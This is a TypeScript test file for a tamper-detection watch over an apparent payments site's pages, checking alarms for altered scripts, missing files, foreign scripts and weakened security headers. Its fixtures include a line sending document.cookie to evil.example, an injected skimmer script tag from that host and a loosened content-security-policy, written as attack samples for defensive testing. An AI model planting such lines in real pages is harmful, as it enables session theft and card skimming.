import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { appendFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, beforeEach, describe, it } from 'node:test';
import { createApp } from './app.ts';
import { pageHeaders } from './security.ts';
import { type Difference, readInventory, scriptsIn, startWatch } from './tamper.ts';

const homes: string[] = [];
const digest = (text: string) => `sha384-${createHash('sha384').update(text).digest('base64')}`;
const entry = (path: string, kind: string, text: string) => ({
  path,
  kind,
  sha384: digest(text),
  bytes: text.length,
  purposes: ['made for this test'],
  owners: ['web'],
  payment: true,
});

describe('the watch over the pages of payments', () => {
  let webDir: string;
  beforeEach(() => {
    webDir = mkdtempSync(join(tmpdir(), 'digipay-watch-'));
    homes.push(webDir);
    mkdirSync(join(webDir, 'assets'));
    mkdirSync(join(webDir, '.vite'));
    const page = '<!doctype html><script type="module" src="/assets/index-a.js"></script>';
    const files = [entry('/', 'page', page), entry('/assets/index-a.js', 'script', 'export {}')];
    writeFileSync(join(webDir, 'index.html'), page);
    writeFileSync(join(webDir, 'assets/index-a.js'), 'export {}');
    writeFileSync(join(webDir, '.vite/inventory.json'), JSON.stringify(files));
  });
  after(() => {
    for (const home of homes) rmSync(home, { recursive: true, force: true });
  });

  async function watched(spoil: (app: Awaited<ReturnType<typeof createApp>>) => void = () => {}) {
    const app = await createApp({
      permissions: {},
      authenticate: async () => null,
      webDir,
      secure: true,
      log: false,
    });
    spoil(app);
    const inventory = readInventory(webDir);
    assert.ok(inventory);
    const alarms: (readonly Difference[])[] = [];
    const watch = startWatch({
      inventory,
      headers: pageHeaders(webDir, true),
      everyMs: 60_000,
      alarm: (found) => alarms.push(found),
      receive: async (path, accept) => {
        const { statusCode, headers, rawPayload } = await app.inject({ url: path, headers: { accept } });
        return { status: statusCode, headers: headers as Record<string, string>, body: rawPayload };
      },
    });
    return { app, watch, alarms };
  }

  it('finds nothing where nothing was changed', async () => {
    const { watch, alarms } = await watched();
    assert.deepEqual(await watch.look(), []);
    assert.equal(alarms.length, 0);
    watch.stop();
  });

  it('finds a script with one more line, and tells of it once', async () => {
    const { watch, alarms } = await watched();
    appendFileSync(join(webDir, 'assets/index-a.js'), ';fetch("https://evil.example/"+document.cookie)');
    assert.deepEqual(await watch.look(), [{ what: '/assets/index-a.js', how: 'changed' }]);
    await watch.look();
    assert.equal(alarms.length, 1);
    watch.stop();
  });

  it('finds a page that loads a script of another site', async () => {
    const { watch, alarms } = await watched();
    appendFileSync(join(webDir, 'index.html'), '<SCRIPT async SRC=https://evil.example/skim.js></script>');
    const found = (await watch.look()).map(({ what, how }) => `${what} ${how}`);
    assert.ok(found.includes('/bayar changed') && found.includes('https://evil.example/skim.js not listed'));
    assert.equal(alarms.length, 1);
    watch.stop();
  });

  it('finds a script that is gone, and code within the page', async () => {
    const { watch } = await watched();
    rmSync(join(webDir, 'assets/index-a.js'));
    assert.deepEqual(await watch.look(), [{ what: '/assets/index-a.js', how: 'missing' }]);
    assert.deepEqual(scriptsIn('<script>alert(1)</script>'), ['inline']);
    watch.stop();
  });

  it('finds headers that were weakened or taken away on the way', async () => {
    const { watch } = await watched((app) =>
      app.addHook('onSend', async (_request, reply) => {
        reply.header('content-security-policy', "script-src 'self' https://evil.example");
        reply.removeHeader('x-frame-options');
      }),
    );
    const found = (await watch.look()).filter(({ what }) => what.startsWith('/bayar '));
    assert.deepEqual(found, [
      { what: '/bayar content-security-policy', how: 'changed' },
      { what: '/bayar x-frame-options', how: 'missing' },
    ]);
    watch.stop();
  });

  it('takes no other inventory than the pinned one', () => {
    assert.throws(() => readInventory(webDir, digest('another')), /not the pinned/);
    assert.equal(readInventory(join(webDir, 'assets')), null);
  });
});
